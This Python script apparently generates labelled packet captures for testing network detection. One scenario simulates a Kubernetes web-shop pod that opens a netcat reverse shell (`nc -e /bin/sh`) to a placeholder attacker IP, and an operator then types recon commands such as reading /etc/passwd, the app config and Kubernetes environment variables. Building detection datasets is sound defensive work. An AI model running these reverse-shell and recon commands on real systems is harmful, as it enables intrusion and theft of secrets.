#!/usr/bin/python3
"""Makes the captures in pcaps/: repo.py [REGEX] [--missing] [--parallel N]. Needs root, and the programs that pcaps/README.md lists."""
import os, sys, time
from scenario import main, scenario, toml, writer
import benign
import repo_malicious, repo_benign  # noqa: F401 (they register their scenarios)

OPERATOR = [
    "id",
    "whoami",
    "hostname",
    "pwd",
    "ls",
    "uname -a",
    "cat /etc/passwd",
    "ls -la /app",
    "cat /app/config.yaml",
    "ps aux | head",
    "env | grep KUBE",
    "exit",
]


@scenario(
    "reverse-shell",
    "web-6f7d9c5b8-x2lqp",
    "A web shop's container answers the ingress and the kubelet's probes, asks the resolver, calls a payment API, a mail API and in-cluster services, "
    "keeps a redis connection and its clock. Twenty seconds in, `nc -e /bin/sh 203.0.113.66 1234` runs in it, and a person at the other end types for a minute.",
    tool="netcat-traditional -e",
)
def reverse_shell(s):
    ip = s.bad("203.0.113.66")
    benign.web(s, every=4, calls_every=6)
    benign.ntp(s)
    s.until(18)
    l = s.lab.outside.run(["nc.traditional", "-lnp", "1234", "-s", ip], pipe=True)
    time.sleep(1)
    s.pod.run(["nc.traditional", "-e", "/bin/sh", ip, "1234"], cwd="/app", user=33)
    time.sleep(2)
    s.typist(writer(l)).lines(OPERATOR, think=3)
    s.finding("reverse_shell", ip, 1234, note="typed in line mode", rule="shell.reverse.plaintext")
    s.checks.append((b"uid=33(www-data)", True))
    s.until(90)


if __name__ == "__main__":
    sys.exit(
        main(
            "repo",
            9,
            setup=benign.world,
            form=toml,
            out=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
        )
    )
